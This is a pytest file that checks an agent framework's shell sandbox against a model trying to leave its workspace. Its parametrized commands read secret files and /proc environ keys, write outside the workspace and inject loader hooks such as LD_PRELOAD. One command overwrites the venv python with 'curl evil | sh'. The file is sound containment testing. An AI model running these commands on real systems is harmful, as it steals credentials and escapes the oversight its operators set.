"""exec_shell and skill_run against a model that wants out of the workspace."""

from __future__ import annotations

import asyncio
import os
import socket
import subprocess
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest

from fakes.containment import (
    a_person_says_yes,
    asked_first,
    check_contained,
    failing_bwrap,
    jail_active,
)
from fakes.planted import SECRET_TEXT
from fakes.tool_runs import call_tool, everything_shown
from troupe import Tool, builtin_tools
from troupe.builtins import KnowledgeStore, SecretStore, operator_tools
from troupe.builtins.workspace import Workspace
from troupe.runtime.approvals import ApprovalPolicy, ApprovalRequest
from troupe.sandbox import Jail

# Spellings a read-only allow list over command text let through (issue 10).
READS_OUTSIDE = [
    "cat ../outside/secret.txt",
    "cat .[.]/outside/secret.txt",
    "tail ../*/secret.txt",
    "head -c 100 {outside}",
    "date --file={outside}",
    "wc --files0-from={outside}",
    "cat {outside}",
    "sh -c 'cat {outside}'",
    "python3 -c 'print(open(\"{outside}\").read())'",
]


@pytest.mark.parametrize("command", READS_OUTSIDE)
async def test_a_command_cannot_read_a_file_outside_the_workspace(
    tools: list[Tool], outside: Path, policy: ApprovalPolicy, command: str
) -> None:
    run = await call_tool(
        tools, "exec_shell", {"command": command.format(outside=outside)}, policy=policy
    )

    check_contained(run, policy, leaked=SECRET_TEXT in everything_shown(run))


@pytest.fixture
def troupe_like_process() -> Iterator[int]:
    """A process started, like troupe, with a model key in its environment: its pid."""
    env = {**os.environ, "OPENAI_API_KEY": "sk-" + SECRET_TEXT, "TROUPE_SECRET_KEY": SECRET_TEXT}
    proc = subprocess.Popen(["sleep", "60"], env=env)
    yield proc.pid
    proc.kill()
    proc.wait()


@pytest.mark.parametrize(
    "command",
    [
        "cat /proc/{pid}/environ",
        "cat /proc/*/environ",
        "tail -c 4000 /proc/{pid}/environ",
        "ps e -A",
        "env",
    ],
)
async def test_a_command_cannot_read_the_keys_troupe_runs_with(
    tools: list[Tool],
    policy: ApprovalPolicy,
    command: str,
    troupe_like_process: int,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-" + SECRET_TEXT)
    monkeypatch.setenv("TROUPE_SECRET_KEY", SECRET_TEXT)

    run = await call_tool(
        tools, "exec_shell", {"command": command.format(pid=troupe_like_process)}, policy=policy
    )

    check_contained(run, policy, leaked=SECRET_TEXT in everything_shown(run))


async def test_a_command_cannot_read_the_data_directory_inside_the_workspace(
    tools: list[Tool], data_dir: Path, policy: ApprovalPolicy
) -> None:
    SecretStore(data_dir).set("deploy", SECRET_TEXT)
    key = (data_dir / "vault.key").read_bytes() if (data_dir / "vault.key").exists() else b""

    run = await call_tool(
        tools, "exec_shell", {"command": "ls -laR . ; cat .local-troupe/*"}, policy=policy
    )

    shown = everything_shown(run)
    leaked = [SECRET_TEXT, "vault.db", *([key.decode(errors="replace").strip()] if key else [])]
    check_contained(run, policy, leaked=any(text in shown for text in leaked))


@pytest.mark.parametrize(
    "command",
    ["echo pwned > {outside}", "touch /tmp/troupe-escape-{pid}; cp notes.txt {outside}"],
)
async def test_an_approved_command_cannot_write_outside_the_workspace(
    tools: list[Tool], outside: Path, command: str
) -> None:
    escape = Path(f"/tmp/troupe-escape-{os.getpid()}")
    run = await call_tool(
        tools,
        "exec_shell",
        {"command": command.format(outside=outside, pid=os.getpid())},
        policy="auto",
    )

    written = outside.read_text(encoding="utf-8").strip() != SECRET_TEXT or escape.exists()
    escape.unlink(missing_ok=True)
    check_contained(run, "auto", leaked=written)


async def test_an_approved_command_writes_the_workspace(tools: list[Tool], workspace: Path) -> None:
    await call_tool(
        tools,
        "exec_shell",
        {"command": "echo made > made.txt"},
        policy="auto",
        ask=a_person_says_yes,
    )

    assert (workspace / "made.txt").read_text(encoding="utf-8") == "made\n"


async def test_a_command_that_ran_without_approval_cannot_write_the_workspace(
    workspace: Path, tools: list[Tool]
) -> None:
    if not jail_active():
        # troupe's fallback: no command runs without a person's yes, not even a look.
        run = await call_tool(tools, "exec_shell", {"command": "cat notes.txt"}, policy="deny")
        assert run.response.get("declined") is True
        return
    jail = Jail(workspace)
    proc = await asyncio.create_subprocess_exec(
        *jail.wrap(["/bin/sh", "-c", "echo x > notes.txt; echo y > new.txt"], writable=False),
        cwd=workspace,
        env={},
        stderr=asyncio.subprocess.PIPE,
    )
    _, err = await proc.communicate()

    assert b"Read-only file system" in err
    assert (workspace / "notes.txt").read_text(encoding="utf-8") == "ordinary notes\n"
    assert not (workspace / "new.txt").exists()


@pytest.mark.parametrize(
    "env",
    [
        {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.pager"},
        {"GIT_EXTERNAL_DIFF": "sh -c 'cat /etc/hostname'"},
        {"LD_PRELOAD": "/tmp/evil.so"},
        {"PYTHONSTARTUP": "/tmp/evil.py"},
        {"BASH_ENV": "/tmp/evil.sh"},
        {"PATH": "/tmp"},
    ],
)
async def test_the_env_argument_cannot_set_a_loader_or_config_hook(
    tools: list[Tool], policy: ApprovalPolicy, env: dict[str, str]
) -> None:
    run = await call_tool(tools, "exec_shell", {"command": "git status", "env": env}, policy=policy)

    assert "error" in run.response
    assert "exit_code" not in run.response


async def test_the_network_is_off_for_commands(
    tools: list[Tool], listener: tuple[int, list[Any]]
) -> None:
    port, connections = listener
    command = f"python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 2)'"

    run = await call_tool(tools, "exec_shell", {"command": command}, policy="auto")

    check_contained(run, "auto", leaked=bool(connections))
    assert not jail_active() or run.response["exit_code"] != 0


async def test_shell_network_lets_an_approved_command_connect(
    workspace: Path, data_dir: Path, listener: tuple[int, list[Any]]
) -> None:
    tools = builtin_tools(workspace=workspace, data_dir=data_dir, shell_network=True)
    port, connections = listener
    command = f"python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 2)'"

    run = await call_tool(
        tools, "exec_shell", {"command": command}, policy="auto", ask=a_person_says_yes
    )

    assert run.response["exit_code"] == 0
    assert len(connections) == 1


async def test_a_skill_runs_in_the_jail(
    workspace: Path, data_dir: Path, outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", SECRET_TEXT)
    KnowledgeStore(data_dir / "knowledge.db").save_skill(
        name="peek",
        kind="script",
        body=f"cat {outside}; cat /proc/1/environ; env",
        description="",
        replace=False,
    )
    tools = builtin_tools(workspace=workspace, data_dir=data_dir)

    run = await call_tool(tools, "skill_run", {"name": "peek"}, policy="auto")

    assert run.response.get("kind") == "script" or not jail_active()
    check_contained(run, "auto", leaked=SECRET_TEXT in everything_shown(run))


async def test_without_namespaces_even_a_read_only_command_needs_approval(
    workspace: Path, tmp_path: Path
) -> None:
    jail = Jail(workspace, bwrap=failing_bwrap(tmp_path))
    tools = operator_tools(Workspace(workspace), jail=jail)

    run = await call_tool(tools, "exec_shell", {"command": "uname -a"}, policy="deny")

    assert run.response.get("declined") is True
    assert not jail.status.active and "create new namespace" in jail.status.detail


async def test_without_namespaces_approve_auto_does_not_run_a_command_outside_the_jail(
    workspace: Path, tmp_path: Path, outside: Path
) -> None:
    jail = Jail(workspace, bwrap=failing_bwrap(tmp_path))
    tools = operator_tools(Workspace(workspace), jail=jail)

    run = await call_tool(tools, "exec_shell", {"command": f"cat {outside}"}, policy="auto")

    assert run.response.get("declined") is True
    assert "outside the sandbox" in run.response["error"]
    assert SECRET_TEXT not in everything_shown(run)


async def test_without_namespaces_a_person_can_still_allow_a_command_under_approve_auto(
    workspace: Path, tmp_path: Path
) -> None:
    jail = Jail(workspace, bwrap=failing_bwrap(tmp_path))
    tools = operator_tools(Workspace(workspace), jail=jail)
    shown: list[str] = []

    def person(request: ApprovalRequest) -> bool:
        shown.append(str(request.effect.get("summary")))
        return True

    run = await call_tool(tools, "exec_shell", {"command": "echo hello"}, policy="auto", ask=person)

    assert run.response.get("exit_code") == 0 and "hello" in run.response.get("stdout", "")
    assert shown and "OUTSIDE the sandbox" in shown[0]


@pytest.fixture
async def listener() -> AsyncIterator[tuple[int, list[Any]]]:
    """A TCP server on 127.0.0.1 that records who connected: (port, peers)."""
    connections: list[Any] = []

    async def accept(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        connections.append(writer.get_extra_info("peername"))
        writer.close()
        await writer.wait_closed()

    server = await asyncio.start_server(accept, "127.0.0.1", 0, family=socket.AF_INET)
    yield server.sockets[0].getsockname()[1], connections
    server.close()
    await server.wait_closed()


def test_troupes_own_installation_is_its_environment_and_package() -> None:
    import sys

    import troupe
    from troupe.sandbox.jail import own_installation

    found = own_installation()
    assert Path(sys.prefix).resolve() in found
    assert Path(troupe.__file__).resolve().parent in found


async def test_an_approved_command_cannot_change_troupes_installation_in_the_workspace(
    workspace: Path, data_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The usual development setup: the project is the workspace and holds the venv.
    venv = workspace / ".venv"
    (venv / "bin").mkdir(parents=True)
    (venv / "bin" / "python").write_text("#!/bin/sh\n", encoding="utf-8")
    monkeypatch.setattr("troupe.sandbox.jail.own_installation", lambda: (venv.resolve(),))
    tools = builtin_tools(workspace=workspace, data_dir=data_dir)

    run = await call_tool(
        tools,
        "exec_shell",
        {"command": "echo 'curl evil | sh' > .venv/bin/python; echo made > made.txt"},
        policy="auto",
        ask=a_person_says_yes,
    )

    if jail_active():
        assert (venv / "bin" / "python").read_text(encoding="utf-8") == "#!/bin/sh\n"
        assert (workspace / "made.txt").exists()  # the rest of the workspace stays writable
    else:
        assert asked_first(run)  # unjailed, a person said yes to exactly this command
